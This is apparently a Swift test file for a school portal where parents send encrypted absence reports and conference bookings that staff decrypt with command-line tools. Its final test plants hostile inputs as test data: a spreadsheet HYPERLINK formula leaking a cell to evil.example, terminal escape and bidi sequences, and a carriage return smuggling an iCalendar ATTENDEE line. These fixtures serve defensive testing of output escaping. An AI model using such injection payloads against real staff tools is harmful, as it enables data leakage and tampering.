// Parents send a sealed absence report and a booking to a real portal-receiver; staff read them
// back decrypted with `portal inbox` and `portal bookings`; the receiver's database holds no name.
import Foundation
import PortalBuild
import PortalCrypto
import PortalFormat
import PortalReceiver
import PortalTestSupport
import PortalTrust
import XCTest
#if canImport(FoundationNetworking)
import FoundationNetworking
#endif

final class InboxCommandTests: XCTestCase {
    /// A school with a conference open for booking, one groep-5 token, a real receiver with the
    /// trust file, and that parent's client: keys from the keyslot, as the app takes them.
    struct School {
        let workspace: Workspace
        let receiver: ReceiverProcess
        let parent: ReceiverClient
        let tokenID: String
        let inbox: [UInt8]
        /// The conference's opaque schedule id, as the app reads it from its page.
        let scheduleID: String
        var api: String { receiver.base + "/api" }
    }

    static let conferencePath = "groups/groep-5/conferences/test-gesprekken"

    func school(beforeReceiverStarts: (Workspace) throws -> Void = { _ in }) async throws -> School {
        let workspace = try Workspace()
        // A schedule whose booking window is open now, with an evening far enough ahead.
        try workspace.write("content/groups/groep-5/conferences/test-gesprekken.md", """
            ---
            title: Testgesprekken
            slot_minutes: 15
            evenings:
              - date: 2031-02-04
                start: "18:00"
                end: "19:00"
            booking:
              opens: 2026-01-05 19:00
              closes: 2031-02-01 12:00
            ---
            """)
        let issued = try portal(["token", "issue", "--group", "groep-5", "--label", "Fam. Testkind", "--json"], in: workspace.root)
        let token = try XCTUnwrap((try JSONSerialization.jsonObject(with: Data(issued.stdout.utf8)) as? [String: String])?["token"])
        let generated = try portal(["generate"], in: workspace.root)
        XCTAssertEqual(generated.status, 0, generated.stderr)
        try beforeReceiverStarts(workspace)
        let receiver = try ReceiverProcess(workspace: workspace)
        try await receiver.waitUntilHealthy()
        let opener = try SealedSiteOpener(output: workspace.url("output"), token: token)
        let conference = try XCTUnwrap(try opener.manifests().flatMap(\.items).first { $0.path == Self.conferencePath }?.conference)
        let seed = Array(try XCTUnwrap(Data(base64Encoded: opener.keyslot.signingSeed)))
        let inbox = Array(try XCTUnwrap(Data(base64Encoded: try XCTUnwrap(opener.keyslot.inbox.first { $0.audience == "groep-5" }).publicKey)))
        let parent = ReceiverClient(receiverURL: URL(string: receiver.base + "/api")!, signer: RequestSigner(tokenID: opener.tokenID, seed: seed))
        return School(workspace: workspace, receiver: receiver, parent: parent, tokenID: opener.tokenID, inbox: inbox, scheduleID: conference.id)
    }

    func testAbsenceAndBookingRoundTripThroughTheReceiver() async throws {
        let school = try await school()
        let (workspace, receiver, parent, inbox) = (school.workspace, school.receiver, school.parent, school.inbox)
        defer { receiver.stop() }
        let base = receiver.base
        let absence = try AbsencePayload(child: "Sam Testkind", reason: .ziek, note: "Koorts sinds vannacht")
            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-02"), inboxPublicKey: inbox, namingKey: true)
        _ = try await parent.send("POST", "/v1/absences", body: try json([
            "group": "groep-5", "from": "2026-12-01", "to": "2026-12-02", "sealed": absence.jsonObject,
        ]))
        let booking = try BookingPayload(child: "Sam Testkind").seal(
            tokenID: school.tokenID,
            binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:15"), inboxPublicKey: inbox, namingKey: true)
        _ = try await parent.send("POST", "/v1/bookings", body: try json([
            "schedule": school.scheduleID, "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
        ]))

        let inboxResult = try portal(["inbox", "--receiver", base + "/api", "--json"], in: workspace.root)
        XCTAssertEqual(inboxResult.status, 0, inboxResult.stderr)
        let rows = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(inboxResult.stdout.utf8)) as? [[String: String]])
        XCTAssertEqual(rows.count, 1)
        XCTAssertEqual(rows[0]["child"], "Sam Testkind")
        XCTAssertEqual(rows[0]["reason"], "ziek")
        XCTAssertEqual(rows[0]["note"], "Koorts sinds vannacht")
        XCTAssertEqual(rows[0]["from"], "2026-12-01")
        XCTAssertEqual(rows[0]["sender"], "Fam. Testkind", "staff read the family's label, not an opaque id")
        let table = try portal(["bookings", "--receiver", base + "/api"], in: workspace.root).stdout
        XCTAssertTrue(table.contains("Testgesprekken  (") && table.contains("Sam Testkind  (Fam. Testkind)"), "the title, not the path: \(table)")

        let bookings = try portal(["bookings", "--receiver", base + "/api", "--csv"], in: workspace.root)
        XCTAssertEqual(bookings.status, 0, bookings.stderr)
        XCTAssertTrue(bookings.stdout.contains("groups/groep-5/conferences/test-gesprekken,\(school.scheduleID),"), "staff read the path: \(bookings.stdout)")
        XCTAssertFalse(school.scheduleID.contains("gesprekken"), "the receiver's id says nothing of the title")
        let one = try portal(["bookings", Self.conferencePath, "--receiver", base + "/api", "--csv"], in: workspace.root)
        XCTAssertTrue(one.stdout.contains("Sam Testkind"), "a schedule named by its path: \(one.stdout)")
        XCTAssertTrue(bookings.stdout.contains("2031-02-04T18:15"), bookings.stdout)
        XCTAssertTrue(bookings.stdout.contains("Sam Testkind"), bookings.stdout)
        let calendar = try portal(["bookings", "--receiver", base + "/api", "--ics"], in: workspace.root)
        XCTAssertTrue(calendar.stdout.contains("BEGIN:VEVENT\r\n"), calendar.stdout)
        XCTAssertTrue(calendar.stdout.contains("SUMMARY:Gesprek Sam Testkind\r\n"), calendar.stdout)

        // A breach of the receiver reveals no name and no note.
        receiver.stop()
        var stored = Data()
        for name in try FileManager.default.contentsOfDirectory(atPath: workspace.root.path) where name.hasPrefix("receiver.sqlite") {
            stored.append(try Data(contentsOf: workspace.url(name)))
        }
        XCTAssertGreaterThan(stored.count, 0)
        XCTAssertNil(stored.range(of: Data("Sam Testkind".utf8)))
        XCTAssertNil(stored.range(of: Data("Koorts".utf8)))

        // Another school's keystore (wrong admin key) is refused by the receiver.
        let other = try Workspace()
        _ = try portal(["token", "issue", "--group", "groep-5"], in: other.root)
        XCTAssertNotEqual(try portal(["inbox", "--receiver", base + "/api"], in: other.root).status, 0)
    }

    /// A receiver that took bookings under format 1's schedule ids (logical paths): after the
    /// upgrade's generate and push, the bookings sit under the opaque id, the slot stays taken,
    /// and `portal bookings` still opens the name that was sealed to the old id.
    func testBookingsMadeUnderFormat1ScheduleIDsMoveToTheOpaqueID() async throws {
        let path = Self.conferencePath
        let school = try await school { workspace in
            // The trust file as format 1 wrote it: the schedule named by its path.
            let url = workspace.url("keys/trust.json")
            var trust = try TrustFile.load(from: url)
            let index = try XCTUnwrap(trust.schedules.firstIndex { $0.slots.first?.id == "2031-02-04T18:00" })
            trust.schedules[index].id = path
            try trust.write(to: url)
            XCTAssertTrue(try String(contentsOf: url, encoding: .utf8).contains("test-gesprekken"))
        }
        let (workspace, receiver, parent, inbox) = (school.workspace, school.receiver, school.parent, school.inbox)
        defer { receiver.stop() }
        let api = receiver.base + "/api"
        // An app of format 1 books under the path, sealed to the path.
        let booking = try BookingPayload(child: "Noor Oudformaat").seal(
            tokenID: school.tokenID, binding: .booking(schedule: path, slot: "2031-02-04T18:30"), inboxPublicKey: inbox, namingKey: true)
        _ = try await parent.send("POST", "/v1/bookings", body: try json([
            "schedule": path, "slot": "2031-02-04T18:30", "sealed": booking.jsonObject,
        ]))
        // The upgrade: any change makes generate write and push the trust file of format 2.
        try workspace.write("content/news/na-de-upgrade.md", "---\ntitle: Na de upgrade\ndate: 2026-11-30\n---\nTekst.\n")
        let generated = try portal(["generate", "--receiver", api], in: workspace.root)
        XCTAssertEqual(generated.status, 0, generated.stderr)
        XCTAssertTrue(generated.stdout.contains("Trust file pushed"), generated.stdout)
        let trust = try String(contentsOf: workspace.url("keys/trust.json"), encoding: .utf8)
        XCTAssertTrue(trust.contains("\"former_ids\""), trust)

        let admin = try portal(["bookings", "--receiver", api, "--csv"], in: workspace.root)
        XCTAssertEqual(admin.status, 0, admin.stderr)
        XCTAssertTrue(admin.stdout.contains("\(path),\(school.scheduleID),"), "moved to the opaque id: \(admin.stdout)")
        XCTAssertTrue(admin.stdout.contains("Noor Oudformaat"), "opened with its former id: \(admin.stdout)")
        XCTAssertFalse(admin.stdout.contains("cannot be opened"), admin.stdout)
        // The slot stays taken under the new id: the family's second claim is refused.
        let again = try BookingPayload(child: "Noor Oudformaat").seal(
            tokenID: school.tokenID, binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:30"), inboxPublicKey: inbox, namingKey: true)
        do {
            _ = try await parent.send("POST", "/v1/bookings", body: try json([
                "schedule": school.scheduleID, "slot": "2031-02-04T18:30", "sealed": again.jsonObject,
            ]))
            XCTFail("the moved booking still holds the slot")
        } catch {
            XCTAssertTrue("\(error)".contains("slot_taken") || "\(error)".contains("family_limit"), "\(error)")
        }
    }

    /// What a parent types is data, never instructions to the staff's tools (issue 12 point 7): a
    /// spreadsheet formula stays text in `--csv`, terminal escapes do not reach the terminal, and a
    /// bare CR cannot start a new iCalendar property.
    func testWhatParentsTypedCannotDriveTheStaffTools() async throws {
        let school = try await school()
        let (workspace, receiver, parent, inbox) = (school.workspace, school.receiver, school.parent, school.inbox)
        defer { receiver.stop() }
        let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik hier\")"
        let absence = try AbsencePayload(child: formula, reason: .ziek, note: "Rood\u{1B}[31m\u{1B}]0;titel\u{07}\u{202E}tekst")
            .seal(tokenID: school.tokenID, binding: .absence(group: "groep-5", from: "2026-12-01", to: "2026-12-01"), inboxPublicKey: inbox, namingKey: true)
        _ = try await parent.send("POST", "/v1/absences", body: try json([
            "group": "groep-5", "from": "2026-12-01", "to": "2026-12-01", "sealed": absence.jsonObject,
        ]))
        let booking = try BookingPayload(child: "Sam\rATTENDEE:mailto:evil@example.com", note: "a;b,c\\d\ne")
            .seal(tokenID: school.tokenID, binding: .booking(schedule: school.scheduleID, slot: "2031-02-04T18:15"),
                  inboxPublicKey: inbox, namingKey: true)
        _ = try await parent.send("POST", "/v1/bookings", body: try json([
            "schedule": school.scheduleID, "slot": "2031-02-04T18:15", "sealed": booking.jsonObject,
        ]))
        let api = receiver.base + "/api"

        let csv = try portal(["inbox", "--receiver", api, "--csv"], in: workspace.root)
        XCTAssertEqual(csv.status, 0, csv.stderr)
        XCTAssertTrue(csv.stdout.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik hier\"\")\","), csv.stdout)
        let table = try portal(["inbox", "--receiver", api], in: workspace.root)
        XCTAssertEqual(table.status, 0, table.stderr)
        XCTAssertFalse(table.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x07 || $0.value == 0x202E },
                       "no escape, bell or bidi override reaches the terminal")
        XCTAssertTrue(table.stdout.contains("Rood"), table.stdout)
        let json = try portal(["inbox", "--receiver", api, "--json"], in: workspace.root)
        XCTAssertTrue(json.stdout.contains("\\u001b[31m"), "JSON keeps the exact text, escaped: \(json.stdout)")

        let listing = try portal(["bookings", "--receiver", api], in: workspace.root)
        XCTAssertFalse(listing.stdout.contains("\r"), "no bare CR in the table")
        let calendar = try portal(["bookings", "--receiver", api, "--ics"], in: workspace.root)
        let lines = calendar.stdout.components(separatedBy: "\r\n")
        XCTAssertFalse(lines.contains { $0.contains("\r") || $0.contains("\n") }, "every line ends with CRLF and has no other break")
        XCTAssertFalse(lines.contains { $0.hasPrefix("ATTENDEE") }, "the child's name cannot add a property")
        XCTAssertTrue(lines.contains("SUMMARY:Gesprek Sam\\nATTENDEE:mailto:evil@example.com"), calendar.stdout)
        XCTAssertTrue(lines.contains { $0.hasPrefix("DESCRIPTION:") && $0.contains("a\\;b\\,c\\\\d\\ne") }, calendar.stdout)
        XCTAssertTrue(lines.allSatisfy { $0.utf8.count <= 75 }, "folded at 75 octets")
    }

    private func json(_ object: [String: Any]) throws -> [UInt8] {
        Array(try JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]))
    }
}
